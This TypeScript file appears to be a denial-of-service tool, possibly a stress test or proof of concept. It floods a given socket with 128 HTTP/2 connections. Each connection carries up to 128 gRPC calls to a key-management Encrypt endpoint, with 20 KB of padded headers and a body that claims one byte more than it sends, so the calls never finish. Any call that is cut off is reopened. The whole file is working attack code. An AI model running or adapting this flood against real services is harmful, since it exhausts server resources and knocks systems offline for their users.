/**
 * A program that takes as much of SOCKET as it can get, until it is ended: 128 connections, each with 128
 * calls that have long headers and a message that never ends. Connections and calls that are cut off are
 * started again.
 */
import { connect as connectHttp2, constants } from "node:http2";
import { connect } from "node:net";

const CONNECTIONS = 128;
const CALLS = 128;
const AGAIN_MILLISECONDS = 500;
const MESSAGE_BYTES = 15_000;
const HEADERS = Object.fromEntries(
  Array.from({ length: 5 }, (_, index) => [`x-${index}`, "a".repeat(4_000)]),
);

const socket = process.argv[2] ?? "";
/** Announces one byte more than is sent. */
const unfinished = Buffer.alloc(5 + MESSAGE_BYTES);
unfinished.writeUInt32BE(MESSAGE_BYTES + 1, 1);
let connections = 0;
let calls = 0;

function flood(): void {
  const session = connectHttp2("http://localhost", { createConnection: () => connect(socket) });
  session.on("error", () => undefined);
  session.once("close", () => setTimeout(flood, AGAIN_MILLISECONDS));
  // The server's settings have arrived, with its limit on calls.
  session.once("remoteSettings", ({ maxConcurrentStreams = CALLS }) => {
    connections += 1;
    for (let index = 0; index < Math.min(CALLS, maxConcurrentStreams); index += 1) call(session);
  });
}

function call(session: ReturnType<typeof connectHttp2>): void {
  if (session.closed || session.destroyed) return;
  const stream = session.request({
    [constants.HTTP2_HEADER_METHOD]: "POST",
    [constants.HTTP2_HEADER_PATH]: "/v2.KeyManagementService/Encrypt",
    "content-type": "application/grpc",
    te: "trailers",
    ...HEADERS,
  });
  stream.on("error", () => undefined);
  stream.write(unfinished);
  calls += 1;
}

for (let index = 0; index < CONNECTIONS; index += 1) flood();
setInterval(() => process.stdout.write(`connections=${connections} calls=${calls}\n`), 100);
